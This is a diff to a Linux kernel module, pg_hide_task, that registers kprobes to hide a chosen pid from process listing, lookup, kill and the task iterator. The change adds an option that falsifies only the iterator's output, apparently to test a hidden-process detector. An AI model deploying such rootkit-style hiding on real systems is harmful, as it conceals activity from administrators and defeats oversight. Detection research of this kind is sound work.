@@ -13,8 +13,9 @@
  *     (the seq file read() returns), while the iterator program still runs for the task.
  *
  * Each is a kprobe whose pre_handler makes the function return at once (pg_override.h).
+ * With only_iterator=1 only the last one is registered: the iterator's output alone lies.
  *
- *   insmod pg_hide_task.ko pid=1234
+ *   insmod pg_hide_task.ko pid=1234 [only_iterator=1]
  */
 #include <linux/dcache.h>
 #include <linux/err.h>
@@ -30,6 +31,9 @@
 static int pid;
 module_param(pid, int, 0444);
 MODULE_PARM_DESC(pid, "the pid hidden from every text view");
+static bool only_iterator;
+module_param(only_iterator, bool, 0444);
+MODULE_PARM_DESC(only_iterator, "filter the task iterator's output only");
 static unsigned long listed, looked_up, killed, iterated;
 module_param(listed, ulong, 0444);
 module_param(looked_up, ulong, 0444);
@@ -111,6 +115,11 @@ static struct kprobe pg_probes[] = {
 };
 static struct kprobe *pg_list[ARRAY_SIZE(pg_probes)];
 
+static int pg_first(void)
+{
+	return only_iterator ? ARRAY_SIZE(pg_probes) - 1 : 0;
+}
+
 static int __init pg_hide_task_init(void)
 {
 	int i, err;
@@ -120,7 +129,7 @@ static int __init pg_hide_task_init(void)
 	name_len = snprintf(name, sizeof(name), "%d", pid);
 	for (i = 0; i < ARRAY_SIZE(pg_probes); i++)
 		pg_list[i] = &pg_probes[i];
-	err = register_kprobes(pg_list, ARRAY_SIZE(pg_list));
+	err = register_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
 	if (err)
 		pr_err("pg_hide_task: register_kprobes: %d\n", err);
 	else
@@ -130,7 +139,7 @@ static int __init pg_hide_task_init(void)
 
 static void __exit pg_hide_task_exit(void)
 {
-	unregister_kprobes(pg_list, ARRAY_SIZE(pg_list));
+	unregister_kprobes(pg_list + pg_first(), ARRAY_SIZE(pg_list) - pg_first());
 }
 
 module_init(pg_hide_task_init);
